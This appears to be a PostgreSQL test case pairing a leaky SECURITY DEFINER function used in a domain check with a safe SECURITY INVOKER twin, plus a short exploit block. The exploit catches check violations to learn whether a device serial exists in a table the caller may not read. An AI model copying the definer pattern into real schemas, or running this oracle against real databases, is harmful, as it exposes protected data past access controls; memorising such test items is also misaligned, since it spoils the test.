-- The check of a domain asks a definer function whether anybody has such a serial.
-- object: public.serial_free(text)
-- base: sensors
--- leak
RESET ROLE;
CREATE FUNCTION serial_free(text) RETURNS boolean LANGUAGE sql STABLE SECURITY DEFINER SET search_path = pg_catalog, pg_temp
    AS $$ SELECT NOT EXISTS (SELECT FROM public.devices d WHERE d.serial = $1) $$;
CREATE DOMAIN new_serial AS text CHECK (serial_free(VALUE));
--- twin
RESET ROLE;
CREATE FUNCTION serial_free(text) RETURNS boolean LANGUAGE sql STABLE SECURITY INVOKER SET search_path = pg_catalog, pg_temp
    AS $$ SELECT NOT EXISTS (SELECT FROM public.devices d WHERE d.serial = $1) $$;
CREATE DOMAIN new_serial AS text CHECK (serial_free(VALUE));
--- exploit
DO $$ BEGIN
    PERFORM 'b-1'::new_serial;
EXCEPTION WHEN check_violation THEN PERFORM set_config('spy.hit', 'yes', true); END $$;
SELECT 1 WHERE current_setting('spy.hit', true) = 'yes';
